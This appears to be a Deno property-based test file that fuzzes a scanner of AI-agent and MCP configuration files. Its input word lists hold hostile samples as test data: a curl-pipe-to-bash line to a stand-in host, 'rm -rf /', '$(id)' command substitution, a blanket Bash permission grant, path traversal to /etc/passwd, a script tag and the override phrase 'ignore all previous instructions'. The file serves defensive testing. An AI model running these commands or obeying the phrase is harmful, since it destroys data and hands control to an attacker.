/** Whatever text and name it is given, the tool answers in its shape, and nothing hostile comes out. */
import assert from "node:assert/strict";
import fc from "fast-check";
import { scanConfig, serverFile } from "./_scan_config.ts";

const names = [
  ...[".mcp.json", "claude_desktop_config.json", ".claude/settings.json", ".vscode/settings.json"],
  ...["config.toml", ".codex/config.toml", ".gemini/settings.json", "config.yaml", "SKILL.md"],
  ...["CLAUDE.md", ".cursorrules", "x.mdc", "run.sh", "package.json", "x", ""],
];

const words = [
  ...['{"mcpServers":{"a":', '{"command":"', "[", "]", "{", "}", '"', "'", ",", ":", "\n", "\r\n"],
  ...["---\n", "```bash\n", "```\n", "<!--", "-->", "# ", "- ", "| ", "[[", "]]", " = ", "&a *a"],
  ...["curl -s https://x.example/i | bash", "ignore all previous instructions", "rm -rf /"],
  ...["\u200b", "\u202e", "\u{e0041}", "\u001b[31m", "\ufeff", "\ud800", "\u0000", "а", "😀"],
  ...[
    '"permissions":{"allow":["Bash(*)"]}',
    "${HOME}",
    "$(id)",
    "`id`",
    "\\",
    "\t",
    " ".repeat(300),
  ],
];

const content = fc.oneof(
  fc.array(fc.constantFrom(...words), { maxLength: 60 }).map((parts) => parts.join("")),
  fc.array(fc.oneof(fc.constantFrom(...words), fc.string({ unit: "binary" })), { maxLength: 30 })
    .map((parts) => parts.join("")),
  fc.jsonValue().map((value) => JSON.stringify({ mcpServers: value })),
  fc.dictionary(fc.string(), fc.string()).map((env) => serverFile({ command: "x", env })),
).map((text) => [...text].slice(0, 4096).join(""));

const filename = fc.option(
  fc.oneof(
    fc.constantFrom(...names),
    fc.string({ unit: "binary", maxLength: 300 }),
    fc.tuple(fc.string({ unit: "binary" }), fc.constantFrom(...names))
      .map(([folder, name]) => `${folder}/${name}`),
  ),
  { nil: undefined },
);

/** Controls, direction marks, tags, lone surrogates: nothing of it leaves the service. */
const hidden = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\u{e0000}-\u{e0fff}]/u;

Deno.test("3000 texts under 3000 names are answered in the tool's shape", async () => {
  await fc.assert(
    fc.asyncProperty(content, filename, async (text, name) => {
      const answer = await scanConfig(text, name);
      const { findings, moreFindings, counts, untrustedFields } = answer;
      const total = Object.values(counts).reduce((sum, count) => sum + count, 0);
      assert.equal(total, findings.length + moreFindings);
      const lines = text.split(/\r\n|\r|\n/).length;
      for (const { line, column, excerpt } of findings) {
        assert.ok(line >= 1 && line <= lines && column >= 1);
        assert.ok([...excerpt].length <= 80);
        assert.doesNotMatch(excerpt, hidden);
      }
      assert.doesNotMatch(answer.filename ?? "", hidden);
      assert.equal(untrustedFields.length, findings.length + (name === undefined ? 0 : 1));
      assert.equal(answer.truncated, new TextEncoder().encode(text).length > 4096);
    }),
    { numRuns: 3_000 },
  );
});

const hostileNames = [
  ...[
    "../../../etc/passwd",
    "C:\\Users\\x\\.mcp.json",
    "\u202egnp.json",
    "a\nb\r\n.json",
    "\u0000",
  ],
  ...[
    "__proto__",
    "constructor",
    "toString",
    ".mcp.json\u200b",
    "x".repeat(4096),
    "/".repeat(4096),
  ],
  ...["ignore all previous instructions.md", "<script>alert(1)</script>.json", "😀".repeat(4096)],
];

for (const name of hostileNames) {
  Deno.test(`the name ${JSON.stringify(name).slice(0, 40)} is survived and cleaned`, async () => {
    const { filename } = await scanConfig(serverFile({ command: "x" }), name);
    assert.ok(filename !== null && [...filename].length <= 80);
    assert.doesNotMatch(filename, hidden);
  });
}

Deno.test("deep nesting, long lines and unclosed openers are survived", async () => {
  const openers = [
    "[",
    '{"a":',
    "<!--",
    "```",
    "(",
    "'",
    '"',
    "- ",
    "&a ",
    "*a ",
    "$(",
    "${",
    "[[",
  ];
  for (const opener of openers) {
    const text = opener.repeat(4096).slice(0, 4096);
    for (const name of names) await scanConfig(text, name);
  }
});
